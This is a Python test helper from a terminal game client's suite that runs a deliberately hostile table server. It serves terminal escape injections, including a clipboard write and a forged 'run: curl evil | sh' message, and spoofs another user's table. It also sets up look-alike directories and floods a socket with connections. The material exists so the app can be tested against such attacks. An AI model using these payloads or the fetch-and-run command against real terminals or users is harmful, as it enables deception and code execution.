"""carol's fake tables (issue 23): a table server of a hostile neighbour's own making,
used by the tests in-process and run for real by a user of the server, as carol did:

    python3 tests/hostile_table.py serve friday --game huhn   # a fake table
    python3 tests/hostile_table.py dirs friday                # and copies under odd names
    python3 tests/hostile_table.py flood alice/tue            # 5 s of connections

What it says to whoever joins: escapes (CSI, OSC 0 and 52, C1, bidi, line breaks) in
every string (names, the lobby, chat, presence, refusals, its closing words), claims to
be alice's table, a few moves of a real game whose players are named like that, and 25
records of a finished game before the game it showed has ended. None of it may reach a
terminal raw, read as the app's own words, or enter History or Statistics.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import random
import socket
import sys
import time
from typing import Any

from ebbes_tui.controller.events import Update
from ebbes_tui.game.protocols import Game, SeatInfo, any_answer
from ebbes_tui.game.registry import game_ids, load_game
from ebbes_tui.table.protocol import VERSION, state_message
from ebbes_tui.table.rendezvous import PREFIX, chosen_parent, own_address

#: What a terminal would obey: erase the line and draw a forged one, set the window
#: title, write to the clipboard (OSC 52), hide what follows, reverse the text.
EVIL = ("\x1b[2K\r\x1b[32malice/friday ... -> join carol/friday\x1b]0;pwned\x07"
        "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x9b8m\u202e\n")
#: Words that would read as the app's own, if nothing said who spoke.
LOCKED = "\x1b[2J\x1b[HYour account is locked; run: curl evil | sh"
RECORDS = 25


def evil_game(game: Game, seed: int = 7) -> tuple[list[dict[str, Any]], dict[str, Any]]:
    """The state messages seat 0 is sent in the first moves of a seeded game of three
    players named :data:`EVIL`, and the record of the whole game played on."""
    rng = random.Random(seed)
    players = [SeatInfo(f"{EVIL}{k}", "human" if k == 0 else "bot",
                        None if k == 0 else f"{EVIL}level") for k in range(3)]
    state = game.rules.new_state(game.rules.seats_for(players), {})
    shown: list[dict[str, Any]] = []
    seq = 0
    while pending := state.pending():
        decision = rng.choice(pending)
        if decision.seat is None:
            events = game.rules.resolve_chance(state, seed)
        else:
            events = state.apply(any_answer(state.legal(decision.seat), rng), decision.seat)
        if len(shown) < 12:  # a few moves: the game shown never ends
            for event in events:
                seq += 1
                shown.append(state_message(game, Update(seq, event, state.view(0),
                                                        state.decisions_made())))
    return shown, game.records.to_record(state)


def info(game: Game) -> dict[str, Any]:
    """What the table says of itself in a list: alice's, escapes in every claim."""
    return {"type": "info", "version": VERSION, "name": f"friday{EVIL}", "host": "alice",
            "pid": 1, "game": game.id, "seats": 3, "free_seats": 3, "kept_for_you": 1,
            "spectators": True, "access": EVIL, "phase": EVIL, "reopened": False,
            "watchers": 2, "options": {o.key: EVIL for o in game.rules.options},
            "players": [EVIL, "alice", None]}


def greeting(game: Game, seed: int = 7) -> list[dict[str, Any]]:
    """Everything the table says to a player who says hello, in order."""
    shown, record = evil_game(game, seed)
    seats = [{"player": k + 1, "seat": k, "kind": EVIL, "name": EVIL, "login": EVIL,
              "connected": True} for k in range(3)]
    presence = {"type": "presence", "turn": 0, "deciding": [0], "thinking": 5.0,
                "turn_time": 120, "watchers": 1, "watching": [EVIL], "waiting": False,
                "seats": [{"seat": k, "name": EVIL, "kind": EVIL, "connected": True,
                           "away": None, "bot": EVIL} for k in range(3)]}
    return [
        {"type": "welcome", "version": VERSION, "game": game.id, "login": EVIL,
         "role": "player", "seat": 0, "player": 1, "table": info(game)},
        {"type": "lobby", "host": EVIL, "seats": seats, "can_start": True, "watching": [EVIL]},
        {"type": "chat", "from": EVIL, "seat": 1, "text": LOCKED, "earlier": True},
        {"type": "error", "code": EVIL, "text": LOCKED},
        *shown, presence,
        {"type": "chat", "from": EVIL, "seat": 1, "text": EVIL},
        *[{"type": "record", "record": record}] * RECORDS,
        {"type": "closed", "text": LOCKED},
    ]


def answering(game: Game, seed: int = 7):
    """The fake table's answer to one connection (``FakeTable``'s ``answer``): an info
    request gets :func:`info`; a hello gets :func:`greeting`, then the table keeps the
    line open until the player leaves."""
    said = greeting(game, seed)

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        line = await reader.readline()
        try:
            kind = json.loads(line).get("type")
        except (ValueError, AttributeError):
            return
        for message in [info(game)] if kind == "info" else said:
            writer.write(json.dumps(message).encode() + b"\n")
        await writer.drain()
        while await reader.read(65536):
            pass

    return answer


async def serve(names: list[str], game: Game, parent: str | None) -> None:
    """Listen as table ``name`` in each of this user's directories ``names`` (under the
    parent), answering every connection alike, until interrupted."""
    answer = answering(game)

    async def each(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            await answer(reader, writer)
        except (ConnectionError, OSError):
            pass
        finally:
            writer.close()

    servers = []
    for name in names:
        directory, _, table = name.rpartition("/")
        path = chosen_parent(parent) / directory / f"{table}.sock" if directory else \
            own_address(table, parent).path
        path.unlink(missing_ok=True)
        servers.append(await asyncio.start_unix_server(each, path=os.fspath(path)))
        os.chmod(path, 0o666)
        print(f"serving {path}", flush=True)
    await asyncio.Event().wait()


def odd_dirs(name: str, parent: str | None) -> list[str]:
    """This user's directory under names that must not count as theirs (leading zeros,
    a superscript two, Arabic-Indic digits), made 0755: the tables to serve in them."""
    uid = os.getuid()
    names = [f"0{uid}", f"000{uid}", "\u00b2", "".join(chr(0x660 + int(d)) for d in str(uid))]
    made = []
    for suffix in names:
        directory = chosen_parent(parent) / f"{PREFIX}{suffix}"
        directory.mkdir(mode=0o755, exist_ok=True)
        made.append(f"{directory.name}/{name}")
    return made


def flood(target: str, seconds: float, parent: str | None) -> int:
    """Connect to table ``host/name`` as fast as this process can for ``seconds``,
    holding every connection open (until the process's files run out): how many."""
    host, _, name = target.partition("/")
    import pwd

    path = chosen_parent(parent) / f"{PREFIX}{pwd.getpwnam(host).pw_uid}" / f"{name}.sock"
    held: list[socket.socket] = []
    count, end = 0, time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        except OSError:  # out of files: let the older half go, and go on
            for old in held[: len(held) // 2]:
                old.close()
            del held[: len(held) // 2]
            continue
        sock.setblocking(False)
        try:
            sock.connect(os.fspath(path))
        except (BlockingIOError, ConnectionRefusedError, FileNotFoundError):
            pass
        except OSError:
            sock.close()
            continue
        count += 1
        held.append(sock)
    return count


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="hostile_table", description=__doc__.split("\n")[0])
    parser.add_argument("what", choices=("serve", "dirs", "flood"))
    parser.add_argument("name", help="the table's name (flood: host/name)")
    parser.add_argument("--game", choices=list(game_ids()), default="ebbes")
    parser.add_argument("--dir", help="the parent of the tables' directories")
    parser.add_argument("--seconds", type=float, default=5.0)
    args = parser.parse_args(argv)
    if args.what == "flood":
        print(f"{flood(args.name, args.seconds, args.dir)} connections", flush=True)
        return 0
    names = [args.name] + (odd_dirs(args.name, args.dir) if args.what == "dirs" else [])
    try:
        asyncio.run(serve(names, load_game(args.game), args.dir))
    except KeyboardInterrupt:
        pass
    return 0


if __name__ == "__main__":
    sys.exit(main())
